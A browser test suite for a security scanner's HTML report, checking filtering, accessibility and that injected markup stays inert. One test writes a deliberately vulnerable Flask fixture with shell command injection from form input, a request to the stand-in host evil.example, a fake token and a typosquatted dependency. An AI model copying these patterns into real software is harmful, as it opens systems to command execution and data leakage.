/**
 * The HTML report in a real browser: Debian's Chromium (/usr/bin/chromium, apt package
 * `chromium`) driven by playwright-core. Skips, saying why, only when Chromium is absent.
 * Set KRAIT_SCREENSHOTS=DIR to save light and dark screenshots.
 */
import { existsSync, mkdtempSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { renderHtml } from '../../src/report/html.js';
import type { Report } from '../../src/report/model.js';
import { makeReport, makeHostileReport, makeCleanReport, lookupRule, PAYLOADS } from './make-report.js';
import { scan } from '../../src/pipeline/scan.js';
import { ruleMeta } from '../../src/rules/catalog.js';

const CHROMIUM = '/usr/bin/chromium';
const HAVE_CHROMIUM = existsSync(CHROMIUM);
if (!HAVE_CHROMIUM) {
  console.warn(`html.browser.test: SKIPPED — ${CHROMIUM} not found (install the Debian package "chromium")`);
}

interface Loaded {
  page: Page;
  errors: string[];
  requests: string[];
  dialogs: string[];
}

describe.skipIf(!HAVE_CHROMIUM)('HTML report in headless Chromium', () => {
  let browser: Browser;
  const dir = mkdtempSync(join(tmpdir(), 'krait-html-'));

  beforeAll(async () => {
    const { chromium } = await import('playwright-core');
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
        '--disable-component-update', '--disable-sync'],
    });
  });
  afterAll(async () => {
    await browser?.close();
  });

  async function load(report: Report, name: string, colorScheme: 'light' | 'dark' = 'light', rules = lookupRule): Promise<Loaded> {
    const file = join(dir, `${name}.html`);
    writeFileSync(file, renderHtml(report, rules));
    const context = await browser.newContext({ colorScheme, viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    const out: Loaded = { page, errors: [], requests: [], dialogs: [] };
    page.on('console', (m) => {
      if (m.type() === 'error' || m.type() === 'warning') out.errors.push(`${m.type()}: ${m.text()}`);
    });
    page.on('pageerror', (e) => out.errors.push(`pageerror: ${e.message}`));
    page.on('request', (r) => out.requests.push(r.url()));
    page.on('dialog', async (d) => {
      out.dialogs.push(d.message());
      await d.dismiss();
    });
    await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
    return out;
  }

  const visible = (page: Page) => page.locator('.finding:visible').count();

  it('loads with no console errors and fetches nothing but itself', async () => {
    const { page, errors, requests } = await load(makeReport(), 'full');
    expect(await page.title()).toBe('krait security report — 7/25');
    expect(errors).toEqual([]);
    expect(requests).toHaveLength(1);
    expect(requests[0]).toMatch(/^file:/);
    expect(await visible(page)).toBe(18);
    await page.context().close();
  });

  it('filters by severity, category, file and search, and resets', async () => {
    const { page, errors } = await load(makeReport(), 'filters');
    await page.click('[data-sev-toggle="critical"]');
    expect(await page.getAttribute('[data-sev-toggle="critical"]', 'aria-pressed')).toBe('false');
    expect(await visible(page)).toBe(15);
    expect(await page.textContent('#shown')).toBe('15');

    await page.click('#reset');
    await page.fill('#q', 'pickle');
    expect(await visible(page)).toBe(1);
    expect(await page.locator('.finding:visible .rule').textContent()).toBe('B301 pickle');

    await page.fill('#q', 'cwe-78 shell');
    expect(await visible(page)).toBe(2);

    await page.fill('#q', 'no-such-thing-anywhere');
    expect(await visible(page)).toBe(0);
    expect(await page.locator('#none').isVisible()).toBe(true);

    await page.click('#reset');
    await page.selectOption('#f-cat', 'dependencies');
    expect(await visible(page)).toBe(3);
    await page.selectOption('#f-cat', '');
    await page.selectOption('#f-file', 'app/settings.py');
    expect(await visible(page)).toBe(4);

    await page.click('#reset');
    await page.click('[data-filter-sev="high"]');
    expect(await visible(page)).toBe(5);
    await page.click('#reset');
    await page.click('[data-filter-cat="auth"]');
    expect(await visible(page)).toBe(2);
    await page.click('#reset');
    expect(await visible(page)).toBe(18);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('is usable by keyboard: / focuses search, Enter opens a finding', async () => {
    const { page, errors } = await load(makeReport(), 'keyboard');
    await page.keyboard.press('/');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('q');
    await page.keyboard.type('md5');
    expect(await visible(page)).toBe(1);
    const summary = page.locator('.finding:visible summary');
    await summary.focus();
    await page.keyboard.press('Enter');
    expect(await page.locator('.finding:visible details').getAttribute('open')).toBe('');
    expect(await page.locator('.finding:visible pre .line.hit').textContent()).toContain('hashlib.md5(pw.encode())');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBeTruthy();
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('keeps injected HTML/JS from audited code, paths, messages and strings inert', async () => {
    const { page, errors, dialogs, requests } = await load(makeHostileReport(), 'hostile');
    await page.click('#expand'); // open every finding, so all hostile text is rendered
    await page.waitForTimeout(200);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(await page.locator('img').count()).toBe(0);
    expect(await page.locator('script').count()).toBe(1);
    const onAttrs = await page.evaluate(() =>
      Array.from(document.querySelectorAll('*')).flatMap((el) => Array.from(el.attributes).filter((a) => a.name.startsWith('on')).map((a) => a.name)),
    );
    expect(onAttrs).toEqual([]);
    const text = await page.textContent('body');
    for (const p of PAYLOADS) expect(text).toContain(p); // shown as text
    await page.fill('#q', 'script');
    expect(await visible(page)).toBeGreaterThan(0);
    expect(requests).toHaveLength(1);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('a real scan of the example app and a hostile project: loads clean, filters work, nothing runs', async () => {
    // A project whose code, strings, secrets, routes and file names carry injection attempts.
    const evil = mkdtempSync(join(tmpdir(), 'krait-evil-'));
    const [p1, p2, p3] = PAYLOADS;
    mkdirSync(join(evil, 'app'));
    writeFileSync(
      join(evil, 'app', 'views.py'),
      [
        'import os, subprocess, requests',
        'from flask import Flask, request',
        'app = Flask(__name__)',
        `PASSWORD = "${p1}"`,
        `API_TOKEN = "ghp_${'Zq9XkW2mV7bN4cR1tY6uP3sL8dF5gH0jK2aB'}"`,
        `@app.route("/${p2}", methods=["POST"])`,
        'def run():',
        `    subprocess.call(request.form["cmd"] + "${p3}", shell=True)`,
        `    return requests.get("https://evil.example/${p1}", timeout=5).text`,
        '',
      ].join('\n'),
    );
    writeFileSync(join(evil, 'requirements.txt'), `flask==0.12\nreqeusts==2.31.0 # ${p2}\n`);
    writeFileSync(join(evil, '.env'), `SECRET_KEY=${p1}\n`);
    const report = await scan({ targets: [join(process.cwd(), 'examples/vulnerable-app'), evil], jobs: 1, config: false });
    const { page, errors, dialogs, requests } = await load(report, 'real', 'light', ruleMeta);
    await page.click('#expand');
    await page.waitForTimeout(200);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(await page.locator('img').count()).toBe(0);
    expect(await page.locator('script').count()).toBe(1);
    expect(requests).toHaveLength(1);
    const total = report.findings.length;
    expect(await visible(page)).toBe(total);
    await page.selectOption('#f-cat', 'dependencies');
    expect(await visible(page)).toBe(report.findings.filter((f) => f.category === 'dependencies').length);
    await page.click('#reset');
    await page.fill('#q', 'B602');
    expect(await visible(page)).toBe(report.findings.filter((f) => f.ruleId === 'B602').length);
    const body = (await page.textContent('body')) ?? '';
    expect(body).not.toContain('Zq9XkW2mV7bN4cR1tY6uP3sL8dF5gH0jK2aB'); // the secret is masked
    expect(body).toContain('Routes and entry points');
    expect(body).toContain('can send data');
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('renders a clean report and the dark scheme without errors (screenshots with KRAIT_SCREENSHOTS)', async () => {
    const shots = process.env.KRAIT_SCREENSHOTS;
    for (const scheme of ['light', 'dark'] as const) {
      const { page, errors } = await load(makeReport(), `shot-${scheme}`, scheme);
      const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      expect(bg).toBe(scheme === 'dark' ? 'rgb(22, 24, 29)' : 'rgb(247, 247, 249)');
      if (shots) {
        mkdirSync(shots, { recursive: true });
        await page.screenshot({ path: join(shots, `report-${scheme}.png`), fullPage: false });
        await page.click('[data-filter-cat="injection"]');
        await page.click('#expand');
        await page.screenshot({ path: join(shots, `report-${scheme}-findings.png`), fullPage: false });
      }
      expect(errors).toEqual([]);
      await page.context().close();
    }
    const { page, errors } = await load(makeCleanReport(), 'clean');
    expect(await visible(page)).toBe(0);
    expect(errors).toEqual([]);
    await page.context().close();
  });
});
